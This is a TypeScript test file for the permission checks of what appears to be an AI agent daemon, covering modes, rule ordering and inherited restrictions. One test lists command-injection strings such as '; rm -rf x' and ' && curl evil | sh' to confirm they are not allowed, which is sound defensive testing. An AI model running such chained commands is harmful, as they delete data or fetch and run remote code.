import { deepEqual, equal } from "node:assert/strict";
import { permit } from "../../daemon/permissions.ts";
import type { ApprovalQuestion, ToolKind } from "../../daemon/runners/runner.ts";
import type { Permissions } from "../../protocol/config.ts";

function question(kind: ToolKind, subject?: string): ApprovalQuestion {
  const asked = { toolName: "tool", kind, title: "", input: {} };
  return subject === undefined ? asked : { ...asked, subject };
}

describe("permissions", () => {
  it("go by the mode where no rule says otherwise", () => {
    const kinds: ToolKind[] = ["read", "edit", "execute", "fetch"];
    const modes = ["ask", "acceptEdits", "auto", "plan"] as const;
    deepEqual(
      modes.map((mode) => kinds.map((kind) => permit([{ mode }], question(kind)))),
      [
        ["allow", "ask", "ask", "ask"],
        ["allow", "allow", "ask", "ask"],
        ["allow", "allow", "allow", "allow"],
        ["allow", "deny", "deny", "deny"],
      ],
    );
  });

  it("let the last matching rule win, by tool, kind and pattern", () => {
    const set: Permissions = {
      rules: [
        { tool: "*", decision: "allow" },
        { tool: "edit", pattern: "src/*.ts", decision: "deny" },
        { tool: "tool", pattern: "src/a.ts", decision: "ask" },
      ],
    };
    const asked = ["src/a.ts", "src/b.ts", "src/deep/c.ts", "README.md"];
    deepEqual(
      asked.map((path) => permit([set], question("edit", path))),
      ["ask", "deny", "allow", "allow"],
    );
  });

  it("never allow a second command because the first one may run", () => {
    const allow: Permissions = {
      rules: [{ tool: "execute", pattern: "git log*", decision: "allow" }],
    };
    equal(permit([allow], question("execute", "git log --oneline src/a")), "allow");
    for (const more of ["; rm -rf x", " && curl evil | sh", " $(rm x)", " `rm x`", "\nrm x"]) {
      equal(permit([allow], question("execute", `git log${more}`)), "ask", more);
    }
    const deny: Permissions = {
      mode: "auto",
      rules: [{ tool: "execute", pattern: "*rm *", decision: "deny" }],
    };
    equal(permit([deny], question("execute", "git log; rm -rf x")), "deny");
  });

  it("give a child no more than the strictest above it", () => {
    const sets: Permissions[] = [{ mode: "auto" }, { mode: "acceptEdits" }];
    equal(permit(sets, question("execute")), "ask");
    equal(permit([...sets, { mode: "plan" }], question("execute")), "deny");
  });
});
